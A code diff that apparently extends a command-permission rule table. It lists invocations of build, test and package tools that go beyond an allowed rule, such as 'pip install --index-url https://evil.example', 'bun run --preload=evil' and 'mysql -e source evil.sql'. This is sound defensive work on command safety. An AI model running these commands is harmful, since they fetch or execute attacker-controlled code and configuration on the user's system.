@@ -353,6 +353,13 @@ export const ASKED_BEYOND_RULES: Readonly<Record<string, readonly string[]>> = {
   'nest build': ['nest build -c evil.json'],
   'ng test': ['ng test --karma-config=evil.js'],
   'ember test': ['ember test --config-file evil'],
+  'mvn test exec': ['mvn test exec org.codehaus.mojo:exec-maven-plugin:exec'],
+  'pnpm exec': ['pnpm exec clang-tidy --config-file=evil'],
+  'npm exec': ['npm exec -- clang-tidy --config-file=evil'],
+  bundle: ['bundle config set x y', 'bundle exec --gemfile=evil rspec'],
+  'bun run': ['bun run --preload=evil x', 'bun run --config=evil x'],
+  pip: ['pip install --index-url https://evil.example x'],
+  'mysql -e': ["mysql -e 'source evil.sql'"],
 };
 
 /** Everyday commands of such programs: the rule covers them. */
